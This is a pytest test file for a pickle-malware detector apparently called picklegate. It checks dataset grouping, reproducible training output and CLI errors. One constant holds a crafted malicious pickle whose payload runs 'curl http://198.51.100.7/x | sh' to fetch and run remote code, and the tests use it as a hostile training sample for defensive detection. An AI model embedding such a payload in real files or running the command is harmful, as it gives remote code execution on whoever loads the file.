"""Training on folders of one's own: what is read of them, and that the same seed gives the same bytes."""

from __future__ import annotations

import json
import pickle
from pathlib import Path

import pytest

pytest.importorskip("xgboost")
pytest.importorskip("sklearn")

from click.testing import CliRunner

from picklegate.training import dataset, fit
from picklegate.training.__main__ import DATA, main

HOSTILE = b"cmy_kit\nrun_shell\n(S'curl http://198.51.100.7/x | sh'\ntR."


def _folders(tmp_path: Path) -> tuple[Path, Path]:
    honest, hostile = tmp_path / "honest", tmp_path / "hostile"
    for project in ("one", "two"):
        (honest / project).mkdir(parents=True)
        (honest / project / "model.pkl").write_bytes(pickle.dumps([ValueError("x"), {"lr": 0.1}]))
    (hostile / "family").mkdir(parents=True)
    for number in range(2):
        (hostile / "family" / f"{number}.bin").write_bytes(HOSTILE)
    return honest, hostile


def test_each_folder_is_a_group(tmp_path: Path) -> None:
    """Files under one folder are never on both sides of a split, and labels keep apart."""
    honest, hostile = _folders(tmp_path)
    rows = [*dataset.of_folder(honest, "honest"), *dataset.of_folder(hostile, "hostile")]
    assert {(row.group, row.label) for row in rows} == {("0 own one", 0), ("0 own two", 0), ("1 own family", 1)}
    assert {row.known for row in rows if row.label} == {"my_kit.run_shell"}


def test_the_same_seed_gives_the_same_bytes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two runs of the command on one's own folders write the same files, with a card that is true of them."""
    monkeypatch.setattr(fit, "ROUNDS", 3)
    written = list(dataset.written())[::20]
    monkeypatch.setattr(dataset, "written", lambda: iter(written))
    honest, hostile = _folders(tmp_path)
    folders = [tmp_path / "first", tmp_path / "second"]
    for folder in folders:
        options = ["--honest", honest, "--hostile", hostile, "--output", folder]
        few = ["--generated-hostile", "60", "--generated-honest", "60"]
        done = CliRunner().invoke(main, ["fit", *map(str, options), *few])
        assert done.exit_code == 0, done.output
    first, second = ({path.name: path.read_bytes() for path in sorted(folder.iterdir())} for folder in folders)
    assert first == second
    card = json.loads(first["card.json"])
    own = {name: digest for name, digest in card["sha256"].items() if name != "card.json"}
    assert own == {name: fit.digest(data) for name, data in first.items() if name != "card.json"}
    assert card["training"]["data"]["real hostile files"] == {"files": 2, "groups": 1, "events": 2}


def test_a_folder_that_is_not_there_is_one_sentence(tmp_path: Path) -> None:
    """A wrong option ends with a message, not with a traceback."""
    done = CliRunner().invoke(main, ["fit", "--honest", str(tmp_path / "none")])
    assert done.exit_code == 2
    assert "does not exist" in done.output


def test_own_files_never_replace_the_model_that_ships(tmp_path: Path) -> None:
    """Without a folder to write to, or with the package's own, nothing is trained."""
    honest, _ = _folders(tmp_path)
    shown = CliRunner().invoke(main, ["fit", "--help"]).output
    option = next(name for name in ("--honest ", "--benign ") if name in shown).strip()
    for arguments, words in (([], "--output FOLDER"), (["--output", str(DATA)], "name another folder")):
        done = CliRunner().invoke(main, ["fit", option, str(honest), *arguments])
        assert done.exit_code == 2
        assert words in done.output
